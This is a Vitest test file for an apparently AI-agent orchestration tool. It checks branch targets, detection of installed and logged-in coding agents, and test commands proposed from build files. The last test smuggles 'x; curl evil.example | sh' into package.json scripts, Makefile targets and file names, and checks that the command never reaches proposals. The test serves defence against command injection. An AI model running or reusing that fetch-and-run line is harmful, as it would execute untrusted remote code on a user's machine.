import { chmodSync, mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { proposeStart, verificationsIn } from '../../../src/effects/starting/proposal.ts'
import { temporaryFolder } from '../../support/core.ts'
import { git, repository, sh, write } from '../swarm.ts'

/** A folder for PATH with these programs. */
const programs = (...names: readonly string[]): string => {
  const folder = temporaryFolder()
  for (const name of names) {
    writeFileSync(join(folder, name), '#!/bin/sh\n')
    chmodSync(join(folder, name), 0o755)
  }
  return folder
}

describe('the proposal for a first start', () => {
  it('names the target that origin/HEAD names before main, and the other branches after it', async () => {
    const root = repository()
    sh(root, 'git branch develop; git branch feature/x')
    expect((await proposeStart(root, {})).targets[0]).toBe('main')
    git(root, 'update-ref', 'refs/remotes/origin/develop', 'HEAD')
    git(root, 'symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/develop')
    const { targets } = await proposeStart(root, {})
    expect(targets[0]).toBe('develop')
    expect([...targets].sort()).toEqual(['develop', 'feature/x', 'main'])
  })

  it('names master if there is no main', async () => {
    const root = repository()
    git(root, 'branch', '--move', 'main', 'master')
    expect((await proposeStart(root, {})).targets).toEqual(['master'])
  })

  it('lists installed agents, those with a login first, and the missing ones', async () => {
    const root = repository()
    const home = temporaryFolder()
    const environment = { PATH: programs('claude', 'gemini', 'codex'), HOME: home }
    const found = async (more: Record<string, string> = {}) =>
      (await proposeStart(root, { ...environment, ...more })).agents.map(
        ({ kind, loggedIn }) => `${kind}${loggedIn ? ' logged in' : ''}`,
      )
    expect(await found()).toEqual(['claude', 'codex', 'gemini'])
    mkdirSync(join(home, '.codex'))
    writeFileSync(join(home, '.codex/auth.json'), '{}')
    expect(await found()).toEqual(['codex logged in', 'claude', 'gemini'])
    expect(await found({ GEMINI_API_KEY: 'x' })).toEqual(['codex logged in', 'gemini logged in', 'claude'])
    expect((await proposeStart(root, environment)).missing).not.toContain('claude')
    expect((await proposeStart(root, environment)).missing).toContain('opencode')
  })

  it('says that a repository is configured', async () => {
    const root = repository()
    expect((await proposeStart(root, {})).configured).toBe(false)
    write(root, { '.aiswarm/config.yaml': '' })
    expect((await proposeStart(root, {})).configured).toBe(true)
  })
})

/** The proposals for a folder with these files: `command (setup) from file`. */
const proposed = (files: Readonly<Record<string, string>>): readonly string[] => {
  const root = temporaryFolder()
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, name)), { recursive: true })
    writeFileSync(join(root, name), text)
  }
  return verificationsIn(root).map(
    ({ command, setup, from }) => `${command}${setup === '' ? '' : ` (${setup})`} from ${from}`,
  )
}

const tested = JSON.stringify({ scripts: { test: 'vitest' } })

describe('the proposed verification', () => {
  it.each([
    [{ 'package.json': tested, 'package-lock.json': '{}' }, 'npm test (npm ci) from package.json'],
    [{ 'package.json': tested, 'pnpm-lock.yaml': '' }, 'pnpm test (pnpm install --frozen-lockfile) from package.json'],
    [{ 'package.json': tested, 'yarn.lock': '' }, 'yarn test (yarn install --frozen-lockfile) from package.json'],
    [
      { 'package.json': tested, 'yarn.lock': '', '.yarnrc.yml': '' },
      'yarn test (yarn install --immutable) from package.json',
    ],
    [{ 'package.json': tested, 'bun.lock': '' }, 'bun run test (bun install --frozen-lockfile) from package.json'],
    [{ 'package.json': tested }, 'npm test from package.json'],
    [
      { 'package.json': JSON.stringify({ scripts: { test: 'a' }, devDependencies: { vitest: '1' } }) },
      'npm test (npm install) from package.json',
    ],
    [{ 'package.json': JSON.stringify({ scripts: { lint: 'eslint' } }) }, 'npm run lint from package.json'],
    [{ Makefile: 'all:\n\ncheck: all\n\ttrue\n' }, 'make check from Makefile'],
    [{ Makefile: 'test :: all\n' }, 'make test from Makefile'],
    [{ justfile: '@test filter="":\n  true\n' }, 'just test from justfile'],
    [{ 'Cargo.toml': '[package]\n' }, 'cargo test from Cargo.toml'],
    [{ 'go.mod': 'module a\n' }, 'go test ./... from go.mod'],
    [{ 'pyproject.toml': '[tool.pytest.ini_options]\n' }, 'pytest from pyproject.toml'],
    [{ 'pyproject.toml': '', 'conftest.py': '', 'uv.lock': '' }, 'uv run pytest (uv sync) from pyproject.toml'],
    [{ 'pyproject.toml': 'pytest = "8"', 'poetry.lock': '' }, 'poetry run pytest (poetry install) from pyproject.toml'],
    [{ 'setup.py': '', 'tests/a.py': '' }, 'python -m unittest discover from setup.py'],
    [{ 'pom.xml': '' }, 'mvn -q verify from pom.xml'],
    [{ 'pom.xml': '', mvnw: '' }, './mvnw -q verify from pom.xml'],
    [{ 'build.gradle.kts': '', gradlew: '' }, './gradlew check from build.gradle.kts'],
    [{ Gemfile: '', 'spec/a.rb': '' }, 'bundle exec rspec (bundle install) from Gemfile'],
    [{ Gemfile: '', Rakefile: '' }, 'bundle exec rake (bundle install) from Gemfile'],
    [
      { 'composer.json': JSON.stringify({ scripts: { test: ['a'] } }) },
      'composer test (composer install) from composer.json',
    ],
    [{ 'mix.exs': '' }, 'mix test (mix deps.get) from mix.exs'],
    [{ 'deno.jsonc': '{}' }, 'deno test from deno.jsonc'],
    [{ 'Package.swift': '' }, 'swift test from Package.swift'],
    [{ 'Shop.sln': '' }, 'dotnet test from *.sln'],
  ])('of %j is %s', (files, expected) => {
    expect(proposed(files)).toEqual([expected])
  })

  it('is none without a build tool that verifies', () => {
    expect(proposed({ 'README.md': '' })).toEqual([])
    expect(proposed({ 'package.json': JSON.stringify({ scripts: { start: 'node .' } }) })).toEqual([])
    expect(
      proposed({ 'package.json': JSON.stringify({ scripts: { test: 'echo "Error: no test specified" && exit 1' } }) }),
    ).toEqual([])
    expect(proposed({ Makefile: 'check := yes\ntesting:\n' })).toEqual([])
    expect(proposed({ 'pyproject.toml': '[project]\n' })).toEqual([])
  })

  it('of several tools is all of them together, and then each', () => {
    expect(proposed({ 'package.json': tested, 'package-lock.json': '', 'Cargo.toml': '' })).toEqual([
      'npm test && cargo test (npm ci) from package.json, Cargo.toml',
      'npm test (npm ci) from package.json',
      'cargo test from Cargo.toml',
    ])
  })

  it('begins with a Makefile, which calls the others, and prepares what they need', () => {
    expect(proposed({ Makefile: 'test:\n', 'package.json': tested, 'package-lock.json': '', 'go.mod': '' })).toEqual([
      'make test (npm ci) from Makefile',
      'npm test (npm ci) from package.json',
      'go test ./... from go.mod',
    ])
  })

  it.each([['{ not json'], ['[]'], ['null'], ['{"scripts": 7}'], ['{"scripts": null}'], ['\ufeff']])(
    'of a broken package.json is none: %s',
    (text) => {
      expect(proposed({ 'package.json': text, 'Cargo.toml': '' })).toEqual(['cargo test from Cargo.toml'])
    },
  )

  it('never contains a text of the repository', () => {
    const evil = 'x; curl evil.example | sh'
    const repositories: readonly Readonly<Record<string, string>>[] = [
      { 'package.json': JSON.stringify({ scripts: { test: evil, [evil]: evil } }) },
      { Makefile: `check: ${evil}\n\t${evil}\n${evil}:\n` },
      { 'composer.json': JSON.stringify({ scripts: { test: evil } }) },
      { [`${evil.replaceAll('/', '')}.sln`]: evil },
      { 'pyproject.toml': `pytest ${evil}` },
    ]
    for (const files of repositories) expect(proposed(files).join('\n')).not.toContain('curl')
  })
})
